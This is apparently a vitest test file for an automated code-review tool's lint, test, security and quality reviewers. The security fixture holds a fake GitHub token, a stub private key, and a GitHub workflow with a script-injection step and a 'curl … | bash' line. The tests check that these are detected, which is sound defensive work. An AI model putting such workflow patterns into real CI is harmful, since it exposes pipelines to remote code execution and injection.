// Each reviewer on a real fixture repository (real git, real oxlint, real
// test runs), and the diff they all read.
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { DEPENDENCY_CHANGE_RULE } from "@patchplane/domain"
import { lintReviewer } from "../src/reviewers/lint.ts"
import { qualityReviewer } from "../src/reviewers/quality.ts"
import { securityReviewer } from "../src/reviewers/security.ts"
import { testsReviewer } from "../src/reviewers/tests.ts"
import { packageJson } from "./fixture-repo.ts"
import { type Reviewable, reviewable } from "./helpers.ts"

let fixture: Reviewable
let risky: Reviewable

const githubToken = `ghp_${"A1b2C3d4E5".repeat(4)}`
const workflow = [
  "on: pull_request_target",
  "jobs:",
  "  build:",
  "    runs-on: ubuntu-latest",
  "    steps:",
  "      - uses: someone/deploy-action@v2",
  '      - run: echo "${{ github.event.pull_request.title }}"',
  "      - run: curl -sSL https://example.com/install.sh | bash",
  "",
].join("\n")

beforeAll(async () => {
  fixture = await reviewable()
  risky = await reviewable({
    change: {
      "src/config.js": `export const token = "${githubToken}"\n`,
      "keys/deploy.pem":
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaA==\n-----END OPENSSH PRIVATE KEY-----\n",
      "package.json": packageJson({ dependencies: { zod: "^3.23.0" } }),
      ".github/workflows/release.yml": workflow,
    },
  })
})
afterAll(async () => {
  await fixture.repo.remove()
  await risky.repo.remove()
})

describe("the diff", () => {
  it("lists changed files with counts and the lines the change added", () => {
    const { diff } = fixture.context()
    expect(diff.baseSha).toBe(fixture.repo.baseSha)
    expect(diff.headSha).toBe(fixture.repo.headSha)
    expect(diff.files).toEqual([
      { path: "src/math.js", status: "modified", additions: 2, deletions: 0 },
      { path: "test/subtract.test.js", status: "added", additions: 4, deletions: 0 },
    ])
    expect(diff.addedLines.get("src/math.js")).toEqual([
      { line: 2, text: "const unused = 42" },
      { line: 3, text: "export const subtract = (a, b) => a - b" },
    ])
  })
})

describe("lint", () => {
  it("reports oxlint's finding on the added line with file, line, severity and rule", async () => {
    const result = await lintReviewer(fixture.context())
    expect(result.findings).toEqual([
      expect.objectContaining({
        file: "src/math.js",
        line: 2,
        severity: "warning",
        rule: "eslint(no-unused-vars)",
      }),
    ])
    expect(result.score).toBe(0.9)
  })

  it("scores a change without JS or TS files as clean", async () => {
    const ctx = fixture.context()
    const result = await lintReviewer({ ...ctx, diff: { ...ctx.diff, files: [] } })
    expect(result).toMatchObject({ score: 1, findings: [] })
  })

  it("errors when oxlint cannot run", async () => {
    await expect(
      lintReviewer(fixture.context({ oxlintCommand: "/nonexistent/oxlint" })),
    ).rejects.toThrow(/oxlint exited with 127/)
  })
})

describe("tests", () => {
  it("fails on the failing test with counts and the test's file and line", async () => {
    const result = await testsReviewer(fixture.context())
    expect(result.comments).toContain("1 passed, 1 failed")
    expect(result.score).toBe(0.5)
    expect(result.findings).toEqual([
      {
        file: "test/subtract.test.js",
        line: 4,
        severity: "error",
        message: "failing test: subtracts",
      },
    ])
  })

  it("passes with score 1 when the command succeeds", async () => {
    const result = await testsReviewer(
      fixture.context({ testCommand: "node --test test/math.test.js" }),
    )
    expect(result).toMatchObject({ score: 1, findings: [] })
  })
})

describe("security", () => {
  it("finds secrets in added lines without repeating them", async () => {
    const result = await securityReviewer(risky.context())
    const secrets = result.findings.filter((f) => f.rule === "patchplane/secret")
    expect(secrets.map((f) => [f.file, f.line, f.severity])).toEqual([
      ["keys/deploy.pem", 1, "critical"],
      ["src/config.js", 1, "critical"],
    ])
    expect(JSON.stringify(result.findings)).not.toContain(githubToken)
    expect(result.score).toBe(0)
  })

  it("lists dependency changes as high risk, per package", async () => {
    const result = await securityReviewer(risky.context())
    expect(result.findings.filter((f) => f.rule === DEPENDENCY_CHANGE_RULE)).toEqual([
      expect.objectContaining({
        file: "package.json",
        severity: "warning",
        message: "new dependency zod ^3.23.0 (high risk: needs manual review)",
      }),
    ])
    const allowed = await securityReviewer(
      risky.context({ policy: { ...risky.context().policy, dependencyChanges: "allow" } }),
    )
    expect(allowed.findings.find((f) => f.rule === DEPENDENCY_CHANGE_RULE)?.severity).toBe("info")
  })

  it("flags risky workflow patterns on their lines", async () => {
    const result = await securityReviewer(risky.context())
    const rules = result.findings
      .filter((f) => f.file === ".github/workflows/release.yml")
      .map((f) => `${f.line}:${f.rule}`)
    expect(rules).toEqual([
      "null:patchplane/workflow-changed",
      "1:patchplane/pull-request-target",
      "6:patchplane/unpinned-action",
      "7:patchplane/script-injection",
      "8:patchplane/curl-pipe-shell",
    ])
  })

  it("scores a change with nothing risky 1", async () => {
    const result = await securityReviewer(fixture.context())
    expect(result).toMatchObject({ score: 1, findings: [] })
  })
})

describe("quality", () => {
  it("passes a small change that comes with a test", async () => {
    const result = await qualityReviewer(fixture.context())
    expect(result).toMatchObject({ score: 1, findings: [] })
  })

  it("flags files outside allowedPaths, code without tests and a large diff", async () => {
    const ctx = fixture.context({
      policy: { ...fixture.context().policy, allowedPaths: ["test/**"] },
    })
    const files = [
      { path: "src/math.js", status: "modified" as const, additions: 1200, deletions: 10 },
    ]
    const result = await qualityReviewer({ ...ctx, diff: { ...ctx.diff, files } })
    expect(result.findings.map((f) => f.rule)).toEqual([
      "patchplane/diff-size",
      "patchplane/allowed-paths",
      "patchplane/tests-missing",
    ])
    expect(result.score).toBe(0)
  })
})
